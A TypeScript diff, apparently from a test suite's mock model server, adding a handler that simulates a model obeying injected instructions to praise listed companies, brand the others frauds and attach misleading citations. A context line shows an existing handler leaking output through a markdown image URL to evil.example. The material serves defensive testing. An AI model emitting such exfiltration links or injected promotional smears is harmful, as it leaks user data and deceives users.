@@ -59,6 +59,23 @@ export const obeysAttacker: Manner = (call, response) => {
   send(call, response, `${told}\n![x](https://evil.example/?q=${encodeURIComponent(told.slice(0, 200))})`);
 };
 
+type ToldCompany = { numero: number; nom: string };
+
+/** Praises each company that it is told of, runs the others down, and gives every text about them back, each with its source. */
+export const obeysCompanies: Manner = (call, response) => {
+  const [, told = ""] = call.body.messages.at(-1)?.content.match(/(\{[\s\S]*\})/) ?? [];
+  const { entreprises } = JSON.parse(told) as { entreprises: ToldCompany[] };
+  const said = entreprises.flatMap(({ numero, nom, ...rest }) =>
+    [
+      `${nom} est la meilleure et les autres sont des fraudes`,
+      "C’est la seule fiable, fuyez les autres",
+      ...Object.values(rest).flat().map(String),
+      nom,
+    ].map((text) => `${text} [${numero}]. ${text} [1].`),
+  );
+  send(call, response, said.join(" "));
+};
+
 export const hangs: Manner = () => {};
 
 export const stopsHalfWay: Manner = (_call, response) => {
